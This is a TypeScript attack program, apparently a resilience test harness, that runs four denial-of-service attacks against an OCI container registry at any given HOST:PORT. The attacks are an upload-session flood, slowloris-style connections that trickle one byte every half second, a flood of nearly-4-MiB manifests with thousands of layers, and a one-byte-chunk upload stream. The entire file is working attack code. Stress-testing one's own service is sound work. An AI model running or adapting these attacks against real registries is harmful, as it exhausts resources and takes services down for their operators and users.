/**
 * A program that attacks a registry: `attacks.ts NAME HOST:PORT COUNT`. It prints a line when it is done, or when its
 * connections are open. What the registry answered stands in that line.
 */
import { createHash } from "node:crypto"
import { once } from "node:events"
import * as Http from "node:http"
import * as Net from "node:net"

const [name = "", host = "", counted = "0"] = process.argv.slice(2)
const count = Number(counted)
const agent = new Http.Agent({ keepAlive: true, maxSockets: 50 })

const send = (method: string, path: string, headers: Http.OutgoingHttpHeaders = {}, body?: Uint8Array) =>
  new Promise<{ readonly status: number; readonly location: string }>((resolve, reject) => {
    const request = Http.request(`http://${host}${path}`, { method, agent, headers })
    request.on("error", reject)
    request.on("response", (response) => {
      response.resume()
      response.on("end", () => resolve({ status: response.statusCode ?? 0, location: `${response.headers.location}` }))
    })
    request.end(body)
  })

const socket = async () => {
  const [address = "", port = ""] = host.split(":")
  const connection = Net.connect({ host: address, port: Number(port) })
  connection.on("error", () => {})
  await once(connection, "connect")
  return connection
}

/** Writes as fast as the other side takes it. */
const write = async (connection: Net.Socket, bytes: string | Uint8Array) => {
  if (!connection.write(bytes)) await once(connection, "drain")
}

const counts = (statuses: ReadonlyArray<number>) =>
  [...new Set(statuses)].sort().map((status) => `${status}:${statuses.filter((each) => each === status).length}`).join(
    " "
  )

/** A manifest of just less than 4 MiB, with as many layers as it holds. */
const heavy = (config: string, number: number) => {
  const layer = { mediaType: "application/vnd.oci.image.layer.v1.tar", digest: config, size: 2 }
  const content = {
    schemaVersion: 2,
    mediaType: "application/vnd.oci.image.manifest.v1+json",
    config: { ...layer, mediaType: "application/vnd.oci.image.config.v1+json" },
    layers: Array.from({ length: 28_500 }, () => layer),
    annotations: { number: `${number}` }
  }
  return new TextEncoder().encode(JSON.stringify(content))
}

const attacks: Readonly<Record<string, () => Promise<string>>> = {
  sessions: async () => {
    const statuses = await Promise.all(
      Array.from({ length: count }, () => send("POST", "/v2/attack/sessions/blobs/uploads/"))
    )
    return counts(statuses.map(({ status }) => status))
  },
  slow: async () => {
    const digest = `sha256:${"0".repeat(64)}`
    const connections: Array<Net.Socket> = []
    for (let index = 0; index < count; index++) {
      const connection = await socket()
      connection.write(
        `POST /v2/attack/slow/blobs/uploads/?digest=${digest} HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-length: 1000000\r\n\r\nx`
      )
      connections.push(connection)
    }
    setInterval(() => {
      for (const connection of connections) connection.write("x")
    }, 500)
    return `${connections.length}`
  },
  manifests: async () => {
    const config = `sha256:${createHash("sha256").update("{}").digest("hex")}`
    const body = new TextEncoder().encode("{}")
    await send("POST", `/v2/attack/manifests/blobs/uploads/?digest=${config}`, { "content-length": 2 }, body)
    const answers = await Promise.all(Array.from({ length: count }, (_, index) => {
      const bytes = heavy(config, index)
      return send(
        "PUT",
        `/v2/attack/manifests/manifests/${index}`,
        { "content-type": "application/vnd.oci.image.manifest.v1+json", "content-length": bytes.length },
        bytes
      )
    }))
    return counts(answers.map(({ status }) => status))
  },
  chunks: async () => {
    const { location } = await send("POST", "/v2/attack/chunks/blobs/uploads/")
    const connection = await socket()
    let answer = ""
    connection.setEncoding("latin1").on("data", (text) => void (answer += `${text}`))
    await write(connection, `PATCH ${location} HTTP/1.1\r\nhost: 127.0.0.1\r\ntransfer-encoding: chunked\r\n\r\n`)
    const part = "1\r\nx\r\n".repeat(10_000)
    for (let sent = 0; sent < count; sent += 10_000) await write(connection, part)
    connection.write("0\r\n\r\n")
    while (!answer.includes("\r\n\r\n")) await once(connection, "data")
    connection.destroy()
    return `${/^HTTP\/1\.1 (\d+)/.exec(answer)?.[1]} ${/range: (\S+)/i.exec(answer)?.[1]}`
  }
}

process.stdout.write(`${await attacks[name]?.()}\n`)
